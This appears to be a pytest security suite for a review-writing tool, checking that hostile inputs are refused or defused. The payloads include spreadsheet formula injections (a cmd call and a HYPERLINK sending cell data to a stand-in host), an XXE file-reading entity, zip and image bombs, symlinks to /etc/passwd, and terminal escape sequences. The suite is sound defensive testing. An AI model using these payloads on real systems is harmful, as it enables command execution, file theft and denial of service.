"""Hostile input to the newer tasks: spreadsheets in and out, and links planted where a task writes.

Each case is an attack a pull request or a returned spreadsheet could make
(docs/security.md): a study field that Excel would run as a formula, an
extraction sheet built to exhaust memory or resolve an XML entity, a symbolic
link placed where import-studies, new-study, export-studies, supplements,
checklist or diff write, a link committed to the history diff copies out.
Everything runs for real (openpyxl, LibreOffice, git, invoke) on copies of
the example reviews.
"""

from __future__ import annotations

import csv
import re
import io
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from conftest import REPO, copy_reference_review

from charter.revision.diff import DiffError, data_changes_between
from charter.start.exporter import ExportError, export_studies
from charter.start.importer import ImportFailed, import_studies, new_study, read_sheet
from charter.submission.supplements import SupplementError, write_supplements

EXAMPLE = REPO / "examples" / "asymptomatic-covid"
FORMULAS = {"participants.description": "=cmd|' /C calc'!A0",
            "design.method": '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
            "research_question": "+1+1", "findings": "@SUM(1+1)"}


def _example(tmp_path: Path) -> Path:
    root = tmp_path / "review"
    shutil.copytree(EXAMPLE, root, ignore=shutil.ignore_patterns("build"))
    return root


def _plant_formulas(root: Path) -> Path:
    """Give one study of the reference review texts that a spreadsheet program would take as formulas."""
    study = root / "studies" / "andrea2016.yaml"
    text = study.read_text(encoding="utf-8")
    lines = [f"research_question: '{FORMULAS['research_question']}'"]
    body = "\n".join(line for line in text.splitlines() if not line.startswith("research_question:"))
    study.write_text(body + "\n" + "\n".join(lines) + "\n", encoding="utf-8")
    method = FORMULAS["design.method"].replace("'", "''")
    text = study.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^  method: .*$", f"  method: '{method}'", text, count=1)
    study.write_text(text, encoding="utf-8")
    return study


def _run(root: Path, *args: str, timeout: int = 600) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.run([sys.executable, "-m", "invoke", *args], cwd=root, capture_output=True, text=True,
                          env=env, timeout=timeout)


# ------------------------------------------------------------ formulas going out


def test_exported_xlsx_keeps_formula_like_texts_as_text_and_libreoffice_does_not_run_them(tmp_path):
    root = copy_reference_review(tmp_path / "reference")
    study = _plant_formulas(root)
    before = study.read_bytes()
    path, _ = export_studies(root, "xlsx")
    sheet = openpyxl.load_workbook(path).active
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "andrea2016")
    method = row[header.index("design.method")]
    assert method.value == FORMULAS["design.method"] and method.data_type == "s"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
    # LibreOffice opens it as a user would and shows the text, not a computed value
    out = tmp_path / "lo"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to",
                    "csv", "--outdir", str(out), str(path)], check=True, capture_output=True, timeout=300)
    text = (out / "studies.csv").read_text(encoding="utf-8")
    assert "=HYPERLINK(" in text and "+1+1" in text
    # and the sheet imports back without changing a byte
    code = import_studies(root, path, update=True, out=io.StringIO())
    assert code == 0 and study.read_bytes() == before


def test_exported_csv_guards_formula_like_texts_and_imports_back_unchanged(tmp_path):
    root = copy_reference_review(tmp_path / "reference")
    study = _plant_formulas(root)
    before = study.read_bytes()
    path, _ = export_studies(root, "csv")
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    header = rows[0]
    row = next(r for r in rows if r[0] == "andrea2016")
    assert row[header.index("design.method")] == "'" + FORMULAS["design.method"]
    assert row[header.index("research_question")] == "'+1+1"
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
    out = io.StringIO()
    assert import_studies(root, path, update=True, out=out) == 0, out.getvalue()
    assert study.read_bytes() == before


def test_the_supplementary_extraction_table_holds_no_formula(tmp_path):
    root = copy_reference_review(tmp_path / "reference")
    _plant_formulas(root)
    write_supplements(root, root / "build" / "supplements")
    book = openpyxl.load_workbook(root / "build" / "supplements" / "extraction-table.xlsx")
    cells = [c for sheet in book for r in sheet.iter_rows() for c in r]
    assert any(c.value == FORMULAS["design.method"] for c in cells)
    assert not any(c.data_type == "f" for c in cells)


# ------------------------------------------------------------ sheets coming in


def _sheet_with(tmp_path: Path, part: str, transform) -> Path:
    base = tmp_path / "base.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["id", "country"])
    book.active.append(["abdulrahman2020", "COUNTRY"])
    book.save(base)
    out = tmp_path / "hostile.xlsx"
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            data = source.read(name)
            target.writestr(name, transform(data) if name == part else data)
    return out


def test_an_xlsx_with_an_external_entity_is_refused_unread(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret", encoding="utf-8")

    def xxe(data: bytes) -> bytes:
        body = data.decode().split("?>", 1)[-1]
        return (f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM "file://{secret}">]>'
                + body.replace("COUNTRY", "&e;")).encode()

    path = _sheet_with(tmp_path, "xl/worksheets/sheet1.xml", xxe)
    with pytest.raises(ImportFailed, match=r"hostile\.xlsx: xl/worksheets/sheet1\.xml declares a DTD or entities"):
        read_sheet(path)


def test_an_xlsx_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    def bomb(data: bytes) -> bytes:
        return data.replace(b"<sheetData>", b"<sheetData>" + b" " * (200 * 2**20))

    path = _sheet_with(tmp_path, "xl/worksheets/sheet1.xml", bomb)
    assert path.stat().st_size < 2**20
    with pytest.raises(ImportFailed, match="unpacks over 500 times larger than it is packed"):
        read_sheet(path)


def test_damaged_sheet_xml_is_a_message_not_a_traceback(tmp_path):
    path = _sheet_with(tmp_path, "xl/worksheets/sheet1.xml", lambda data: data.replace(b"</sheetData>", b""))
    with pytest.raises(ImportFailed, match=r"cannot be read as an Excel workbook .*save it again"):
        read_sheet(path)


def test_a_sheet_far_wider_or_longer_than_any_review_is_refused(tmp_path):
    wide = tmp_path / "wide.csv"
    wide.write_text(",".join(f"c{i}" for i in range(100_000)) + "\n" + "1," * 100_000 + "\n", encoding="utf-8")
    with pytest.raises(ImportFailed, match=r"wide\.csv: line 1 has more than 2,000 columns"):
        read_sheet(wide)
    long = tmp_path / "long.csv"
    long.write_text("id\n" + "x\n" * 60_000, encoding="utf-8")
    with pytest.raises(ImportFailed, match=r"long\.csv: more than 50,000 rows"):
        read_sheet(long)
    big = tmp_path / "big.csv"
    big.write_text("id,findings\nx," + "y" * 21_000_000 + "\n", encoding="utf-8")
    with pytest.raises(ImportFailed, match=r"big\.csv is 21 MB, over Charter's limit of 20 MB"):
        read_sheet(big)
    book = openpyxl.Workbook()
    book.active.cell(row=1, column=3000, value="far right")
    book.save(tmp_path / "wide.xlsx")
    with pytest.raises(ImportFailed, match=r"wide\.xlsx: sheet 'Sheet': more than 2,000 columns"):
        read_sheet(tmp_path / "wide.xlsx")


def test_a_cell_over_the_csv_modules_limit_is_a_message_through_invoke(tmp_path):
    root = _example(tmp_path)
    sheet = tmp_path / "huge-cell.csv"
    sheet.write_text("id,design.method\nabdulrahman2020," + "x" * 200_000 + "\n", encoding="utf-8")
    done = _run(root, "import-studies", str(sheet), "--dry-run")
    assert done.returncode == 1
    assert "Traceback" not in done.stderr + done.stdout
    assert "huge-cell.csv: row 2 cannot be read as CSV" in done.stderr + done.stdout


# ------------------------------------------------------------ links where tasks write


def test_import_never_writes_through_a_planted_link(tmp_path):
    root = _example(tmp_path)
    outside = tmp_path / "outside.yaml"  # does not exist yet: a dangling link looks like a new study
    (root / "studies" / "abdulrahman2020.yaml").unlink()
    (root / "studies" / "abdulrahman2020.yaml").symlink_to(outside)
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("id,design.method\nabdulrahman2020,cohort\n", encoding="utf-8")
    out = io.StringIO()
    assert import_studies(root, sheet, out=out) == 1
    assert "studies/abdulrahman2020.yaml is a symbolic link" in out.getvalue()
    assert not outside.exists()
    with pytest.raises(ImportFailed, match="studies/abdulrahman2020.yaml is a symbolic link"):
        new_study(root, "abdulrahman2020")
    assert not outside.exists()


def test_a_linked_studies_folder_is_never_written_into(tmp_path):
    root = _example(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    shutil.rmtree(root / "studies")
    (root / "studies").symlink_to(elsewhere)
    with pytest.raises(ImportFailed):
        new_study(root, "abdulrahman2020")
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize("link", ["build", "build/supplements"])
def test_outputs_are_never_written_through_a_linked_build_folder(tmp_path, link):
    root = _example(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (root / link).parent.mkdir(parents=True, exist_ok=True)
    (root / link).symlink_to(elsewhere, target_is_directory=True)
    if link == "build":
        with pytest.raises(ExportError, match=f"{link} is a symbolic link"):
            export_studies(root, "xlsx")
    with pytest.raises(SupplementError, match=f"{link} is a symbolic link"):
        write_supplements(root, root / "build" / "supplements")
    if link == "build":
        done = _run(root, "checklist", "--no-build")
        assert done.returncode == 1 and "build is a symbolic link" in done.stderr and "Traceback" not in done.stderr
    assert list(elsewhere.iterdir()) == []


def _git(root: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=A", "-c", "user.email=a@example.invalid", *args], cwd=root, check=True,
                   capture_output=True)


def test_diff_copies_out_no_link_from_the_history_and_writes_through_none(tmp_path):
    root = _example(tmp_path)
    _git(root, "init", "-q")
    _git(root, "add", "-A")
    _git(root, "commit", "-qm", "first")
    _git(root, "tag", "v1")
    (root / "studies" / "passwd.yaml").symlink_to("/etc/passwd")
    (root / "studies" / "up.yaml").symlink_to("../../../../outside.yaml")
    _git(root, "add", "-A")
    _git(root, "commit", "-qm", "links")
    found = data_changes_between(root, "v1", "HEAD")  # no tarfile error: the links are left out of the copy
    assert found is not None
    copies = list((root / "build" / "diff" / "versions").glob("*/studies"))
    assert copies and not any((c / "passwd.yaml").is_symlink() or (c / "up.yaml").is_symlink() for c in copies)

    shutil.rmtree(root / "build" / "diff")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (root / "build" / "diff").symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(DiffError, match="build/diff is a symbolic link"):
        data_changes_between(root, "v1", "HEAD")
    assert list(elsewhere.iterdir()) == []


# ------------------------------------------------------------ what reaches the terminal


def test_control_and_direction_characters_in_a_sheet_are_not_printed(tmp_path):
    root = _example(tmp_path)
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("id,participants.n,\x1b[2Jcleared\nabdulrahman2020,\x1b]0;pwned\x07 six \u202eevil,x\n",
                     encoding="utf-8")
    done = _run(root, "import-studies", str(sheet), "--dry-run", "--update")
    printed = done.stdout + done.stderr
    assert "expected a whole number" in printed and "Traceback" not in printed
    assert not any(ch in printed for ch in "\x1b\x07\u202e"), printed
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text("key: id\ncolumns:\n  \"Land\": country\n", encoding="utf-8")
    sheet.write_text("id,\u202eLand2\x1b[31m\nabdulrahman2020,x\n", encoding="utf-8")
    done = _run(root, "import-studies", str(sheet), "--mapping", str(mapping))
    assert done.returncode == 1 and "no column named 'Land'" in done.stderr
    assert not any(ch in done.stderr for ch in "\x1b\u202e"), done.stderr


@pytest.mark.parametrize("content", ["{not json", '{"line": 1}', '[{"line": 3, "page": 1, "text": "\\u001b[2J\\u202e"}]'])
def test_where_answers_a_damaged_or_hostile_line_map_without_a_traceback(tmp_path, content):
    root = _example(tmp_path)
    (root / "build" / "submission").mkdir(parents=True)
    (root / "build" / "submission" / "line-map.json").write_text(content, encoding="utf-8")
    done = _run(root, "where", "3")
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert not any(ch in done.stdout for ch in "\x1b\u202e")
    assert "damaged" in done.stdout or "line 3 (page 1)" in done.stdout


@pytest.mark.parametrize("mapping, message", [
    ("key: [id]", "1:6: import: key: takes one text (a column's name)"),
    ("key: id\nsheet: {a: 1}", "2:8: import: sheet: takes one text (a sheet's name)"),
    ("key: id\nmissing: 5", "2:10: import: missing: lists the cell texts"),
    ("key: id\nvalues: 5", "2:9: import: values: maps each field"),
    ("key: id\nfixed: [theme]", "2:8: import: fixed: maps each field"),
    ("key: id\ncolumns: {[a]: country}", "2:11: import: a key here must be a text"),
    ("key: id\nvalues: {country: {[a]: b}}", "2:20: import: a key here must be a text"),
])
def test_a_malformed_mapping_is_a_message_at_its_line_not_a_traceback(tmp_path, mapping, message):
    root = _example(tmp_path)
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("id,country\nabdulrahman2020,Bahrain\n", encoding="utf-8")
    (tmp_path / "mapping.yaml").write_text(mapping + "\n", encoding="utf-8")
    with pytest.raises(ImportFailed) as raised:
        import_studies(root, sheet, mapping=tmp_path / "mapping.yaml", dry_run=True, out=io.StringIO())
    assert f"mapping.yaml:{message}" in str(raised.value)


# ------------------------------------------------------------ charter init


def test_init_writes_any_title_as_text_and_never_through_a_link(tmp_path):
    from charter.sources.load import load_review
    from charter.start.init import InitError, init_review

    title = 'Effects of A\\B: a "review" #1 {=typst} `#read("/etc/passwd")`'
    init_review(tmp_path / "new", title=title)
    review, problems = load_review(tmp_path / "new")
    assert [p for p in problems if p.severity == "error"] == [] and review.title == title

    planted = tmp_path / "planted"
    planted.mkdir()
    (planted / "review.yaml").symlink_to(tmp_path / "victim.yaml")
    with pytest.raises(InitError, match="review.yaml is a symbolic link"):
        init_review(planted, force=True)
    assert not (tmp_path / "victim.yaml").exists()


# ------------------------------------------------------------ the build's own bookkeeping


def test_a_linked_input_folder_is_not_walked_even_to_hash_it(tmp_path):
    """templates -> /dev made the build's up-to-date check read device files (a traceback; /dev/zero never ends)."""
    root = _example(tmp_path)
    (root / "templates").symlink_to("/dev", target_is_directory=True)
    done = _run(root, "build", "--format", "docx")
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr[-2000:]
    assert "the folder templates/ is a symbolic link to a place outside the project folder" in done.stderr


def _png_claiming(width: int, height: int) -> bytes:
    """A small PNG whose header claims width x height pixels (the pixels themselves are never read)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
            + chunk(b"IEND", b""))


@pytest.mark.parametrize("width, height, claim", [(20_000, 5_000, "is 20,000 x 5,000 pixels"),
                                                  (60_000, 60_000, "claims far more pixels")])
def test_an_image_claiming_gigapixels_is_refused_before_typst_unpacks_it(tmp_path, width, height, claim):
    from charter.compile.build import BuildError, build

    root = _example(tmp_path)
    (root / "manuscript" / "bomb.png").write_bytes(_png_claiming(width, height))
    with open(root / "manuscript" / "01-introduction.md", "a", encoding="utf-8") as section:
        section.write("\n![A figure](bomb.png)\n")
    done = _run(root, "check")
    assert done.returncode == 1 and f"image 'bomb.png' {claim}" in done.stdout + done.stderr
    with pytest.raises(BuildError, match=f"image .bomb.png. {claim}.*over Charter.s limit of 50 million pixels"):
        build(root, formats=("pdf",), verbose=False)


def test_a_commit_author_with_control_characters_does_not_break_the_tracked_changes(tmp_path):
    from charter.revision.diff import make_diff

    root = _example(tmp_path)
    _git(root, "init", "-q")
    _git(root, "add", "-A")
    _git(root, "commit", "-qm", "first")
    _git(root, "tag", "v1")
    section = root / "manuscript" / "01-introduction.md"
    section.write_text(section.read_text(encoding="utf-8").replace(" the ", " THE ", 1), encoding="utf-8")
    _git(root, "add", "-A")
    subprocess.run(["git", "-c", "user.name=Eve\x01\x1b[31m\u202e&", "-c", "user.email=e@example.invalid",
                    "commit", "-qm", "second"], cwd=root, check=True, capture_output=True)
    result = make_diff(root, "v1", "HEAD", formats=("docx",))
    document = zipfile.ZipFile(result.docx).read("word/document.xml").decode("utf-8")
    assert re.findall(r'w:author="([^"]*)"', document) and set(re.findall(r'w:author="([^"]*)"', document)) == \
        {"Eve[31m&amp;"}


def test_a_study_file_of_100000_stray_keys_gives_a_short_answer(tmp_path):
    from charter.sources.load import load_project

    root = _example(tmp_path)
    (root / "studies" / "zz.yaml").write_text("id: zz\n" + "".join(f"k{i}: 1\n" for i in range(100_000)),
                                               encoding="utf-8")
    problems = [p for p in load_project(root).problems if p.location.path == "studies/zz.yaml"]
    unknown = [p for p in problems if p.message.startswith("unknown field")]
    assert len(unknown) == 20 and len(problems) < 30
    assert any(p.message.startswith("99,980 more unknown fields from here on") and p.location.line == 22
               for p in problems)


def test_a_stray_study_key_that_looks_like_a_formula_is_a_guarded_header(tmp_path):
    root = _example(tmp_path)
    with open(root / "studies" / "abdulrahman2020.yaml", "a", encoding="utf-8") as study:
        study.write("'=HYPERLINK(\"http://example.invalid\")': 1\n")
    path, _ = export_studies(root, "csv")
    header = next(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert header[-1] == "'=HYPERLINK(\"http://example.invalid\")"
    assert read_sheet(path).headers[-1] == "=HYPERLINK(\"http://example.invalid\")"  # read back as written
    path, _ = export_studies(root, "xlsx")
    assert openpyxl.load_workbook(path).active.cell(1, len(header)).data_type == "s"


def test_watch_refuses_to_follow_a_folder_link_out_of_the_review(tmp_path):
    """manuscript/usr -> /usr made the watcher register ~16,000 inotify watches (/ would exhaust the limit)."""
    root = _example(tmp_path)
    (root / "manuscript" / "usr").symlink_to("/usr", target_is_directory=True)
    done = _run(root, "watch", "--format", "docx", timeout=120)  # without the check it watches for ever
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "manuscript/usr: a symbolic link to a folder outside the review" in done.stderr
    assert not (root / "build" / "manuscript.docx").exists()
